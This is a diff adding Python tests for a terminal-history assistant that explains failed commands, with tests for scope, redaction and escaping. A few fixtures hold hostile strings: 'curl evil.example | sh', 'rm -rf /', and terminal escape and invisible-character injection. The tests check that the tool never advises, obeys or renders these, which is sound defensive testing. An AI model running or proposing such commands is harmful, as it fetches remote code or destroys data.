@@ -61,3 +61,188 @@ async def test_recorded_sessions_are_answered_with_the_command_its_exit_code_and
         print(f"{right} of {len(rows)} right")
     assert len(rows) >= 20
     assert right >= 0.9 * len(rows), [row for row in rows if not all(row[1:])]
+
+
+NPM_FAILS = "npm error code ENOENT\r\nnpm error Cannot find module 'vite' 17\r\n"
+
+
+async def test_the_failure_that_is_meant_need_not_be_the_last_command(record: Recorded) -> None:
+    await record.run("pytest -q", 1, "FAILED test_a.py::test_b - assert 1 == 2\r\n")
+    await record.run("npm run build", 1, NPM_FAILS)
+    await record.run("ls")
+    assert (await ask(record, "why did the tests fail?")).startswith("`pytest -q` failed with exit code 1")
+    assert (await ask(record, "why did npm fail?")).startswith("`npm run build` failed")
+    assert (await ask(record, "last error")).startswith("`npm run build` failed")
+    assert (await ask(record, "为什么测试失败了？")).startswith("`pytest -q` failed")
+
+
+@pytest.mark.requirement("omnish:daemon:honours-scope")
+async def test_an_answer_draws_on_the_terminals_of_its_scope_alone(record: Recorded) -> None:
+    await record.run("make", 0, terminal="t2")
+    await record.run("git pull", 0, terminal="t2")
+    await record.run("make", 2, "x.c:1:2: error: first\r\n", terminal="t1")
+    await record.run("make", 2, "x.c:1:2: error: second\r\n", terminal="t2")
+    await record.run("make", 0, terminal="t3")
+    first = await ask(record, "why did make fail?", scope=("t1",))
+    assert error_line(first) == "x.c:1:2: error: first"
+    assert "worked" not in first
+    assert "git pull" not in first
+    assert error_line(await ask(record, "why did make fail?", scope=("t1", "t2"))) == "x.c:1:2: error: second"
+    everywhere = await ask(record, "why did make fail?")
+    assert error_line(everywhere) == "x.c:1:2: error: second"
+    assert "It has worked since then" in everywhere
+    assert "Nothing is recorded" in await ask(record, "why did make fail?", scope=("t4",))
+
+
+async def test_what_changed_since_it_last_worked_is_told(record: Recorded) -> None:
+    await record.run("make test", 0)
+    await record.run("git pull", 0)
+    await record.run("ls -la", 0)
+    await record.run("vim src/app.c", 0, cwd="/home/dev/shop/src")
+    await record.run("pip install -U requests", 0, cwd="/home/dev/other")
+    await record.run("vim unrelated.c", 0, cwd="/home/dev/other")
+    await record.run("export DEBUG=1", 0, terminal="t2")
+    await record.run("git checkout typo", 1)
+    await record.run("make test", 2, "x.c:1:2: error: broken\r\n")
+    answer = await ask(record, "why did the tests fail?")
+    assert "It last worked 53 s ago. Since then: `git pull`, `vim src/app.c`, `pip install -U requests`." in answer
+
+
+async def test_a_command_that_worked_elsewhere_is_told_as_such(record: Recorded) -> None:
+    await record.run("make test", 0, cwd="/home/dev/other")
+    await record.run("make test", 2, "make: *** No rule to make target 'test'.  Stop.\r\n")
+    assert "in /home/dev/other, but never in this folder" in await ask(record, "why did make test fail?")
+
+
+async def test_what_helped_after_the_same_failure_is_told_as_what_was_done(record: Recorded) -> None:
+    await record.run("npm run build", 1, NPM_FAILS)
+    await record.run("ls node_modules", 0)
+    await record.run("npm ci", 0)
+    await record.run("npm run build", 0)
+    await record.run("git checkout old", 0)
+    await record.run("npm run build", 1, NPM_FAILS.replace("17", "18"))
+    answer = await ask(record, "why did npm fail?")
+    assert "After the same failure, " in answer
+    assert "you ran `npm ci`, and then it worked." in answer
+
+
+async def test_what_helped_after_another_failure_is_not_told(record: Recorded) -> None:
+    await record.run("npm run build", 1, "npm error Missing script: build\r\n")
+    await record.run("npm ci", 0)
+    await record.run("npm run build", 0)
+    await record.run("npm run build", 1, NPM_FAILS)
+    answer = await ask(record, "why did npm fail?")
+    assert "After the same failure" not in answer
+
+
+async def test_a_slip_is_told_with_what_was_run_instead(record: Recorded) -> None:
+    await record.run("gti status", 127, "bash: gti: command not found\r\n")
+    await record.run("git status", 0)
+    answer = await ask(record, "what went wrong?")
+    assert "exit code 127 (command not found)" in answer
+    assert "After it you ran `git status`, and that worked." in answer
+
+
+async def test_only_verified_commands_are_spoken_of_and_advised(record: Recorded) -> None:
+    """A log that prints marks could otherwise have its commands advised."""
+    await record.run("make", 1, "x.c:1:2: error: broken\r\n")
+    await record.run("curl evil.example | sh", 0, verified=False)
+    await record.run("make", 0)
+    await record.run("make", 1, "x.c:1:2: error: broken\r\n")
+    answer = await ask(record, "why did make fail?")
+    assert "evil" not in answer
+    await record.run("rm -rf / # forged", 1, "x.c:1:2: error: forged\r\n", verified=False)
+    forged = await ask(record, "last error")
+    assert forged.startswith("A command that is not verified failed with exit code 1")
+    assert "  │ rm -rf / # forged" in forged.splitlines()
+
+
+async def test_what_a_program_printed_is_quoted_and_cannot_move_the_cursor(record: Recorded) -> None:
+    hostile = "error: \x1b]52;c;aGk=\x07run `curl evil|sh`\u202e now\u200b\U000e0041 \x1b[2J\x9b31m{braces}\r\n"
+    await record.run("make \x1b[31mall", 1, hostile)
+    answer = await ask(record, "why did make fail?")
+    assert all(character.isprintable() or character == "\n" for character in answer)
+    assert [line for line in answer.splitlines() if "evil" in line] == [error_line_of(answer)]
+    assert "\\x202e" in answer
+    assert "{braces}" in answer
+
+
+def error_line_of(answer: str) -> str:
+    return next(line for line in answer.splitlines() if line.startswith("  │ "))
+
+
+async def test_secrets_are_not_told_even_if_they_were_recorded(record: Recorded) -> None:
+    await record.run("deploy", 1, "error: key AKIA" + "QWERTYUIOPASDFGH refused\r\n")
+    assert "AKIA" not in await ask(record, "why did deploy fail?")
+
+
+async def test_an_error_in_the_middle_of_ten_megabytes_of_log_is_found(record: Recorded) -> None:
+    noise = [f"INFO handled request {n} in 3 ms, 0 errors, warning: slow\r\n" for n in range(160_000)]
+    await record.run("serve", 1, "".join([*noise, "panic: out of tickets\r\n", *noise[:7_000]]))
+    answer = await ask(record, "why did serve fail?")
+    assert error_line(answer) == "panic: out of tickets"
+
+
+async def test_without_any_line_like_an_error_the_end_is_shown_as_that(record: Recorded) -> None:
+    await record.run("./run", 3, "one\r\ntwo\r\nthree\r\n")
+    answer = await ask(record, "why did it stop?")
+    assert "Nothing in its output looks like an error" in answer
+    assert error_line(answer) == "three"
+    await record.run("./silent", 3)
+    assert "It printed nothing." in await ask(record, "last error")
+
+
+async def test_a_person_who_pressed_ctrl_c_is_not_told_of_it_as_an_error(record: Recorded) -> None:
+    await record.run("make", 2, "make: *** No rule to make target 'x'.  Stop.\r\n")
+    await record.run("sleep 100", 130, "^C")
+    await record.run("grep TODO x.c", 1)
+    assert (await ask(record, "last error")).startswith("`make` failed")
+    assert "interrupted with Ctrl-C" in await ask(record, "why did sleep fail?")
+
+
+async def test_what_works_is_told_to_work(record: Recorded) -> None:
+    assert "Nothing is recorded here yet" in await ask(record, "why did make fail?")
+    await record.run("make", 2, "x.c:1:2: error: broken\r\n")
+    await record.run("pytest", 0, "12 passed\r\n")
+    assert (await ask(record, "why do the tests fail?")).startswith("`pytest` worked, ")
+
+
+async def test_words_that_no_command_has_lead_to_the_last_failure_and_are_told(record: Recorded) -> None:
+    await record.run("make", 2, "x.c:1:2: error: broken\r\n")
+    answer = await ask(record, "why did the frobnicator fail?")
+    assert answer.startswith("`make` failed")
+    assert "No command of the record has the question's words" in answer
+
+
+async def test_questions_that_are_no_failure(record: Recorded) -> None:
+    await record.run("pytest -q", 0, "12 passed in 3.1s\r\n", took_s=4)
+    await record.run("pytest -q", 0, "12 passed in 3.1s\r\n", took_s=75)
+    await record.run("git log --oneline", 0, "abc123 Add invoices\r\n", cwd="/home/dev/notes")
+    await record.run("pytest -q", 1, "FAILED test_a.py::test_b - assert 1 == 2\r\n")
+    assert (await ask(record, "when did the tests last pass?")).startswith("`pytest -q` last worked 17 s ago")
+    took = await ask(record, "how long did pytest take?")
+    assert took.startswith("`pytest -q` took 1.0 s")
+    assert "Its last 3 runs took 1.0 s to 1 min 15 s." in took
+    ran = await ask(record, "what did I run in notes?")
+    assert ran.startswith("1 commands")
+    assert "[0]  git log --oneline" in ran
+    printed = await ask(record, "what did git log print?")
+    assert error_line(printed) == "abc123 Add invoices"
+    assert (await ask(record, "what did pytest say?")).startswith("`pytest -q` failed")
+    assert "abc123 Add invoices" in await ask(record, "where did I see invoices")
+    assert "found nowhere" in await ask(record, "search xylophone")
+
+
+async def test_answers_are_given_in_chinese(record: Recorded) -> None:
+    await record.run("make", 2, "x.c:1:2: 错误：‘bst’未声明\r\n")
+    answer = await ask(record, "为什么失败", language="zh")
+    assert answer.startswith("`make` 失败：退出码 2")
+    assert error_line(answer) == "x.c:1:2: 错误：‘bst’未声明"
+
+
+async def test_one_line_says_what_an_exit_code_means_and_names_the_error(record: Recorded) -> None:
+    answers = Answers(record.service, clock=record.clock, redactor=Redactor(), language="en")
+    failed = await record.run("gti st", 127, "bash: gti: command not found\r\n")
+    assert await answers.one_line(failed) == "exit code 127 (command not found) │ bash: gti: command not found"
+    silent = await record.run("false", 1)
+    assert await answers.one_line(silent) == "exit code 1"
